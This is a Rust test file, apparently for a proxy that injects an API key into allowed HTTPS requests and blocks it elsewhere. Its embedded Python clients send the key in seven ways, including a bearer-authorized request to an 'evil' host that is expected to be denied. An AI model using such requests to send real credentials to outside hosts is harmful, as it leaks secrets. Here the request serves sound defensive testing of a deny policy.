//! What guests really use to ask servers: libraries of Python, and a load of many streams.

use std::process::Stdio;

use serde_json::json;

use super::{EVIL, GOOD, Site, VALUE, command, config, events, has, programs, run};
use crate::guest::ConfigFile;
use crate::needs;
use crate::process::{Finished, Process};

/// Asks in a session of its own with every place that a secret may be in, and in vain.
const REQUESTS: &str = r#"
import os, requests, sys
good, evil, port = sys.argv[1:4]
key = os.environ["API_KEY"]
with requests.Session() as session:
    url = f"https://{good}:{port}/p"
    bearer = {"Authorization": f"Bearer {key}"}
    for asked in (
        session.get(url, headers=bearer, timeout=20),
        session.get(url, params={"k": key}, timeout=20),
        session.get(url, auth=("me", key), timeout=20),
        session.post(url, json={"k": key}, timeout=20),
        session.post(url, data={"k": key}, timeout=20),
        session.post(url, data=iter([b"cut ", key[:5].encode(), key[5:].encode()]), timeout=20),
        session.post(url, files={"k": ("name", key)}, timeout=20),
    ):
        print(asked.status_code, asked.json()["version"], key in asked.text)
    denied = session.get(f"https://{evil}:{port}/p", headers=bearer, timeout=20)
    print(denied.status_code, denied.json()["code"])
"#;

/// The same over HTTP/2, then many at a time on one connection.
const HTTPX: &str = r#"
import asyncio, httpx, os, sys
good, evil, port = sys.argv[1:4]
key = os.environ["API_KEY"]
url = f"https://{good}:{port}/p"
bearer = {"Authorization": f"Bearer {key}"}
async def cut():
    for piece in (b"cut ", key[:5].encode(), key[5:].encode()):
        yield piece
async def main():
    async with httpx.AsyncClient(http2=True, timeout=20) as client:
        for asking in (
            client.get(url, headers=bearer),
            client.get(url, params={"k": key}),
            client.get(url, auth=("me", key)),
            client.post(url, json={"k": key}),
            client.post(url, data={"k": key}),
            client.post(url, content=cut()),
            client.post(url, files={"k": ("name", key.encode())}),
        ):
            asked = await asking
            print(asked.status_code, asked.json()["version"], key in asked.text)
        denied = await client.get(f"https://{evil}:{port}/p", headers=bearer)
        print(denied.status_code, denied.json()["code"])
        many = [client.post(url, headers=bearer, content=b"x" * 50_000) for _ in range(80)]
        print({asked.json()["bytes"] for asked in await asyncio.gather(*many)})
asyncio.run(main())
"#;

/// Runs `client` in a guest, for `site`.
fn python(site: &Site, client: &str) -> Finished {
    let file = ConfigFile::new(&config(site, json!({})));
    let mut command = command(&file, "exec \"$0\" - \"$@\"");
    command.args([programs::PYTHON, GOOD, EVIL, &site.port.to_string()]);
    let mut process = Process::start(command.stdin(Stdio::piped()));
    std::io::Write::write_all(&mut process.take_input(), client.as_bytes()).unwrap();
    process.finish()
}

/// What a client saw that asked in every place, and that its server had the value in each.
fn is_as_it_should_be(site: &Site, finished: &Finished, version: &str, last: &str) {
    // Of Basic credentials, too, which come back as they were sent, in base64.
    let answered = format!("200 {version} True\n").repeat(7);
    let expected = format!("{answered}403 secret_policy_denied\n{last}");
    assert_eq!(finished.output, expected, "{finished:?}");
    let heard = site.heard();
    let heard_by = |text: &str| has(&heard, text.replace("VALUE", VALUE).as_bytes());
    for place in ["Bearer VALUE", "?k=VALUE", "\"VALUE\"", "k=VALUE", "cut VALUE", "\nVALUE\r\n"] {
        assert!(heard_by(place), "{place:?}: {finished:?}");
    }
    assert!(heard_by("Basic bWU6c2stbGl2ZS0wMTIzNDU2Nzg5YWJjZGVm"), "{finished:?}");
    assert!(!heard_by("MSB_API_KEY"), "no placeholder has left");
    let events = events(finished);
    assert_eq!((events.len(), &events[0]["secret"]), (1, &json!("API_KEY")), "{finished:?}");
}

#[test]
fn requests_of_python_has_its_secret_used_everywhere_and_shown_nowhere() {
    if !needs::are_met(&[]) || !programs::has_module("requests") {
        return;
    }
    let site = Site::new(&["h2", "http/1.1"]);
    is_as_it_should_be(&site, &python(&site, REQUESTS), "h1", "");
}

#[test]
fn httpx_has_the_same_over_http2_and_many_at_a_time() {
    if !needs::are_met(&[]) || !programs::has_module("httpx, h2") {
        return;
    }
    let site = Site::new(&["h2", "http/1.1"]);
    is_as_it_should_be(&site, &python(&site, HTTPX), "h2", "{50000}\n");
    assert_eq!(site.handshakes(), 2, "one connection to each name");
}

#[test]
fn a_load_of_many_streams_is_answered_whole() {
    if !needs::are_met(&["h2load"]) {
        return;
    }
    let site = Site::new(&["h2"]);
    let word = "-H \"authorization: Bearer $API_KEY\"";
    for (what, path, load) in [
        ("streams of one connection", "/p", "-n 4000 -c 1 -m 200"),
        ("connections", "/p", "-n 4000 -c 40 -m 10"),
        ("long answers", "/big", "-n 30 -c 3 -m 5"),
    ] {
        let script = format!("h2load {load} {word} {}", site.url(GOOD, path));
        let finished = run(&config(&site, json!({})), &script);
        let count = load.split(' ').nth(1).unwrap();
        let all = format!("{count} done, {count} succeeded, 0 failed, 0 errored, 0 timeout");
        assert!(finished.output.contains(&all), "{what}: {finished:?}");
        assert!(finished.output.contains("Application protocol: h2"), "{what}: {finished:?}");
        assert!(events(&finished).is_empty(), "{what}: {finished:?}");
    }
    let asked = memchr::memmem::find_iter(&site.heard(), "authorization: Bearer sk-live-").count();
    assert_eq!(asked, 8000, "each of them with the value");
}
